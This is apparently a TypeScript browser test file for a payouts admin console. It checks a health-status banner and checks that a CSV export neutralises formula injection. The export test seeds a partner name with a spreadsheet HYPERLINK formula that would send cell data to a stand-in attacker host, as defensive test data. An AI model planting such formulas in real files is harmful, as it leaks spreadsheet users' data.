import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { sql } from 'slonik';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HealthChecks } from '../../api/context.ts';
import { createApiHarness, type ApiHarness } from '../helpers/api.ts';
import { launchChromium } from '../helpers/browser.ts';
import { serve, type ServedApp } from '../helpers/http.ts';
import { payoutKit } from '../helpers/payouts.ts';

/**
 * Two of issue #16's safeguards in the console, in headless Chromium against the real API and database (no worker):
 * a banner on every page while /healthz says the system is degraded, gone once it is not; and the queue's
 * "Export selected (CSV)" writing a partner name a spreadsheet would run as a formula as text.
 */

let api: ApiHarness;
let served: ServedApp;
let browser: Browser;
const contexts: BrowserContext[] = [];
const workflowIds = new Set<string>();
let healthy: HealthChecks;

beforeAll(async () => {
  api = await createApiHarness();
  // No worker polls this file's task queue; the banner tests say which component is down themselves.
  healthy = { ...api.dependencies.health };
  api.dependencies.health.worker = async () => {};
  served = await serve((request) => api.app.fetch(request));
  browser = await launchChromium();
  expect((await fetch(`${served.url}/app/assets/app.js`)).status).toBe(200);
}, 120_000);

afterAll(async () => {
  for (const context of contexts) await context.close().catch(() => {});
  await browser?.close();
  await Promise.allSettled([...workflowIds].map((id) => api.dependencies.temporal.workflow.getHandle(id).terminate('test file finished')));
  await served?.close();
  await api?.close();
});

async function newPage(): Promise<Page> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  contexts.push(context);
  const page = await context.newPage();
  page.on('pageerror', (error) => console.error('page error:', error));
  return page;
}

describe('the health banner', () => {
  it('names the component that is down on every page, the sign-in page included, and goes once it is back', async () => {
    api.dependencies.health.temporal = async () => {
      throw new Error('connect ECONNREFUSED');
    };
    try {
      const page = await newPage();
      await page.goto(`${served.url}/app/login`);
      const banner = page.getByTestId('health-banner');
      await banner.waitFor();
      expect(await banner.getAttribute('role')).toBe('alert');
      expect(await banner.textContent()).toContain('Temporal is down: payouts, refunds and the other lifecycles cannot start or move on');
      api.dependencies.health.temporal = healthy.temporal;
      await expect.poll(() => banner.count(), { timeout: 20_000 }).toBe(0);
    } finally {
      api.dependencies.health.temporal = healthy.temporal;
    }
  });

  it('says so when the server does not answer at all, and shows nothing while everything is up', async () => {
    const page = await newPage();
    await page.route('**/healthz', (route) => route.abort('connectionrefused'));
    await page.goto(`${served.url}/app/login`);
    const banner = page.getByTestId('health-banner');
    await banner.waitFor();
    expect(await banner.textContent()).toContain('The server does not answer');
    await page.unroute('**/healthz');
    await expect.poll(() => banner.count(), { timeout: 20_000 }).toBe(0);
    await page.getByRole('button', { name: 'Sign in' }).waitFor();
  });
});

describe('Export selected (CSV)', () => {
  it('writes a partner name that starts a formula as text, and amounts as numbers', async () => {
    const kit = payoutKit(api);
    await kit.insertRubRate();
    const partnerId = `f${randomBytes(4).toString('hex')}`;
    const name = '=HYPERLINK("http://attacker.example/?"&A1,"Open")';
    await api.owner.query(sql.unsafe`
      INSERT INTO partners (id, name, rank, status, kyc_status, joined_at) VALUES (${partnerId}, ${name}, '3', 'ACTIVE', 'APPROVED', now() - interval '1 year')`);
    const partner = await api.createPartnerUser(partnerId);
    await kit.fund(partnerId, '300.00', 'USD');
    const created = await api.request('/v1/payouts', {
      token: await api.signIn(partner),
      body: { partnerId, amount: '120.00', currency: 'USD', methodId: 'BANK_TRANSFER', paymentDetails: { accountName: 'Formula Partner', accountNumber: '12345678', routingNumber: '021000021' } },
    });
    expect(created.status, await created.clone().text()).toBe(201);
    const payoutId = ((await created.json()) as { id: string }).id;
    workflowIds.add(`payout-${payoutId}`);

    const admin = await api.createAdmin('admin');
    const page = await newPage();
    await page.goto(`${served.url}/app/login`);
    await page.getByLabel('Email').fill(admin.email);
    await page.getByLabel('Password').fill(admin.password);
    await page.getByLabel('TOTP code (admins)').fill(await api.nextTotp(admin));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Payout queue' }).waitFor();
    await page.locator(`tr[data-payout-id="${payoutId}"]`).getByRole('checkbox').check();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export selected (CSV)' }).click()]);
    const text = await readFile((await download.path())!, 'utf8');
    expect(text).toContain(`${payoutId},${partnerId},"'=HYPERLINK(""http://attacker.example/?""&A1,""Open"")",120.00,USD,5.00,115.00,BANK_TRANSFER`);
  });
});
